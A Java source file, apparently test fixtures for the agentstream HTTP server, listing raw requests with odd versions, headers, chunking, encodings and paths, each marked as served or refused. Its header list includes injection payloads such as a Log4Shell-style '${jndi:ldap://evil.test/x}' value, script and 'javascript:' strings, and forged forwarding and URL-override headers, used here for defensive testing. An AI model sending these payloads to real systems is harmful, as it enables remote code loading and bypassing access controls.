package io.agentstream.http;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.zip.GZIPOutputStream;

/**
 * A table of requests that no client library writes. Those that are odd and right are served; the
 * others get an error, or nothing.
 *
 * @param name what is odd
 * @param bytes the whole request, each byte a character
 * @param served whether it is right
 */
record HttpOddRequests(String name, String bytes, boolean served) {

  private static final String AGENTS = "GET /api/agents HTTP/1.1\r\n";
  private static final String COMMANDS = "POST /api/commands HTTP/1.1\r\n";
  private static final String CLOSE = "Host: localhost\r\nConnection: close\r\n";
  private static final String JSON = "Content-Type: application/json\r\n";
  private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";
  private static final String END = "\r\n";
  private static final String PING = "{\"type\":\"ping\",\"data\":{}} ";

  /** Returns the whole table. */
  static List<HttpOddRequests> all() {
    List<HttpOddRequests> rows = new ArrayList<>();
    versions(rows);
    harmlessHeaders(rows);
    bodies(rows);
    chunks(rows);
    encodings(rows);
    methods(rows);
    targets(rows);
    return rows;
  }

  private static void versions(List<HttpOddRequests> rows) {
    rows.add(served("HTTP/1.0 without a host", "GET /api/agents HTTP/1.0\r\n\r\n"));
    rows.add(
        served(
            "HTTP/1.0 with a body",
            "POST /api/commands HTTP/1.0\r\n" + JSON + length(PING) + END + PING));
    rows.add(refused("HTTP/1.1 without a host", AGENTS + "Connection: close\r\n\r\n"));
    rows.add(refused("a version that is none", "GET /api/agents HTTP/9.9\r\n" + CLOSE + END));
    rows.add(refused("HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
    rows.add(
        served("an absolute target", "GET http://localhost/api/agents HTTP/1.1\r\n" + CLOSE + END));
  }

  /** They ask for what this server does not do, and change nothing. */
  private static void harmlessHeaders(List<HttpOddRequests> rows) {
    for (String header :
        List.of(
            "If-None-Match: *",
            "If-None-Match: \"x\"",
            "If-Match: \"x\"",
            "If-Modified-Since: Thu, 01 Jan 2037 00:00:00 GMT",
            "If-Modified-Since: yesterday",
            "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
            "If-Range: \"x\"",
            "Range: bytes=0-0",
            "Range: bytes=9-1,-0",
            "Accept: image/png",
            "Accept: ;q=2",
            "Accept-Charset: utf-7",
            "Accept-Encoding: gzip, br",
            "Accept-Language: \u00ff",
            "TE: trailers, deflate",
            "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
            "X-HTTP-Method-Override: DELETE",
            "X-Method-Override: DELETE",
            "X-Original-URL: /metrics",
            "X-Rewrite-URL: /metrics",
            "X-Forwarded-Host: evil.test",
            "X-Forwarded-For: ${jndi:ldap://evil.test/x}",
            "Forwarded: for=\"[::1]\";host=evil.test",
            "Max-Forwards: 0",
            "Via: 9.9 x",
            "Cookie: $Version=1; =; a=\"",
            "Idempotency-Key: " + "x".repeat(500),
            "Last-Event-ID: x",
            "Agentstream-Share: x",
            "Pragma: no-cache",
            "Referer: javascript:alert(1)",
            "User-Agent: <script>",
            "X-Empty:",
            "X-Long: " + "x".repeat(2_000))) {
      rows.add(served(header, AGENTS + CLOSE + header + "\r\n" + END));
    }
    rows.add(served("many headers", AGENTS + CLOSE + "X-Many: x\r\n".repeat(50) + END));
  }

  private static void bodies(List<HttpOddRequests> rows) {
    rows.add(served("odd capitals", command("cOnTeNt-TyPe: APPLICATION/JSON\r\n", PING)));
    rows.add(served("tabs", command("Content-Type:\tapplication/json \t\r\n", PING)));
    for (String type :
        List.of("application/json;charset=UTF-8", "application/json ; charset=\"utf-8\"")) {
      rows.add(served(type, command("Content-Type: " + type + "\r\n", PING)));
    }
    rows.add(
        refused("a length that is none", COMMANDS + CLOSE + JSON + "Content-Length: x\r\n" + END));
    rows.add(
        refused(
            "a negative length", COMMANDS + CLOSE + JSON + "Content-Length: -1\r\n" + END + PING));
    rows.add(
        refused(
            "two lengths",
            COMMANDS + CLOSE + JSON + "Content-Length: 3\r\n" + length(PING) + END + PING));
  }

  private static void chunks(List<HttpOddRequests> rows) {
    String size = Integer.toHexString(PING.length());
    String whole = "\r\n" + PING + "\r\n";
    String last = "0\r\n\r\n";
    rows.add(served("a chunk", chunked(size + whole + last)));
    StringBuilder single = new StringBuilder();
    PING.chars().forEach(c -> single.append("1\r\n").append((char) c).append("\r\n"));
    rows.add(served("a chunk for each byte", chunked(single + last)));
    rows.add(served("capital digits", chunked(size.toUpperCase(Locale.ROOT) + whole + last)));
    rows.add(served("leading zeros", chunked("000" + size + whole + last)));
    rows.add(served("an extension", chunked(size + ";a=b" + whole + last)));
    rows.add(served("trailers", chunked(size + whole + "0\r\nX-Trailer: x\r\n\r\n")));
    rows.add(refused("no size", chunked("x" + whole + last)));
    rows.add(refused("a negative size", chunked("-1" + whole + last)));
    rows.add(refused("an endless size", chunked("F".repeat(40) + whole + last)));
    rows.add(refused("a chunk that is longer than it says", chunked("2" + whole + last)));
  }

  private static void encodings(List<HttpOddRequests> rows) {
    for (String[] row :
        new String[][] {
          {"Latin-1", "{\"type\":\"ping\",\"data\":{\"x\":\"\u00e9\"}}"},
          {"a byte that is never UTF-8", "{\"type\":\"ping\",\"data\":{\"x\":\"\u00ff\"}}"},
          {"an overlong slash", "{\"type\":\"ping\",\"data\":{\"x\":\"\u00c0\u00af\"}}"},
          {"a surrogate in UTF-8", "{\"type\":\"ping\",\"data\":{\"x\":\"\u00ed\u00a0\u0080\"}}"},
          {"half a character", "{\"type\":\"ping\",\"data\":{\"x\":\"\u00e4\u00b8\"}}"},
          {"UTF-16", new String(PING.getBytes(UTF_16LE), ISO_8859_1)},
          {"UTF-16 that says so", "\u00ff\u00fe" + new String(PING.getBytes(UTF_16LE), ISO_8859_1)},
          {"a mark of UTF-8", new String(("\ufeff" + PING).getBytes(UTF_8), ISO_8859_1)},
          {"packed without a word", gzip(PING)},
        }) {
      rows.add(refused(row[0], command(JSON, row[1])));
    }
    rows.add(refused("packed", command(JSON + "Content-Encoding: gzip\r\n", gzip(PING))));
    rows.add(refused("said to be packed", command(JSON + "Content-Encoding: gzip\r\n", PING)));
  }

  private static void methods(List<HttpOddRequests> rows) {
    for (String method :
        List.of("HEAD", "OPTIONS", "TRACE", "TRACK", "get", "CONNECT", "G\u00e9T")) {
      rows.add(refused(method, method + " /api/agents HTTP/1.1\r\n" + CLOSE + END));
    }
    rows.add(
        refused("HEAD of a stream", "HEAD /api/conversations/x/events HTTP/1.1\r\n" + CLOSE + END));
  }

  private static void targets(List<HttpOddRequests> rows) {
    for (String target :
        List.of(
            "/api/conversations?limit=%zz",
            "/api/conversations?query=%",
            "/api/conversations?query=%FF%",
            "/api/conversations?limit=1&limit=1",
            "/api/conversations/a%2Fb",
            "/api/conversations/%00",
            "/api/conversations/%zz",
            "/api/conversations/a b",
            "/api/conversations/" + "x".repeat(20_000))) {
      rows.add(refused("a target", "GET " + target + " HTTP/1.1\r\n" + CLOSE + END));
    }
  }

  private static String command(String headers, String body) {
    return COMMANDS + CLOSE + headers + length(body) + END + body;
  }

  private static String chunked(String body) {
    return COMMANDS + CLOSE + JSON + CHUNKED + END + body;
  }

  private static String length(String body) {
    return "Content-Length: " + body.length() + "\r\n";
  }

  private static String gzip(String text) {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
      out.write(text.getBytes(UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toString(ISO_8859_1);
  }

  private static HttpOddRequests served(String name, String bytes) {
    return new HttpOddRequests(name, bytes, true);
  }

  private static HttpOddRequests refused(String name, String bytes) {
    return new HttpOddRequests(name, bytes, false);
  }

  @Override
  public String toString() {
    return name;
  }
}
